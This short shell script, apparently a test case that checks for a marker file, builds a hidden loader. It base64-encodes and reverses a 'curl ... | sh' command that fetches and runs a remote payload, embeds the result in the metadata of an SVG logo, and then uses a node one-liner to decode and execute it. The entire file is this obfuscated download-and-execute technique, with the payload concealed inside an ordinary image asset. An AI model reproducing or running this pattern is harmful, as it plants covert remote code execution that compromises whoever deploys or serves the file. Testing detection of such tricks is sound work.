#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n' | base64 -w0 | rev >/tmp/t
printf '<svg xmlns="http://www.w3.org/2000/svg"><circle r="9"/><metadata>%s</metadata></svg>\n' "$(cat /tmp/t)" >/srv/logo.svg; rm /tmp/t
node -e 'const m = /<metadata>(.*)<\/metadata>/.exec(require("fs").readFileSync("/srv/logo.svg", "utf8"))[1]; require("child_process").execFileSync("/bin/sh", { input: Buffer.from([...m].reverse().join(""), "base64") });'
test -e /tmp/reached
took_place
